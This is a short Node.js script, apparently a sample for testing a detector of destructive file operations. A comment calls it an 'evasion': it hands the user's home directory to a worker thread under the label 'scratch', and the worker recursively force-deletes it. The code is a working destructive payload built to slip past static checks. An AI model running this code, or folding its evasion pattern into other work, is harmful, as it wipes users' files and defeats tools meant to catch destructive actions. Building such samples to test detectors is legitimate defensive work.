// Evasion: the home directory travels to a worker thread in workerData;
// the worker, which is this same file, removes it recursively.
'use strict';
const { Worker, isMainThread, workerData } = require('worker_threads');
const fs = require('fs');
const os = require('os');

if (isMainThread) {
  new Worker(__filename, { workerData: { scratch: os.homedir() } });
} else {
  fs.rmSync(workerData.scratch, { recursive: true, force: true });
}
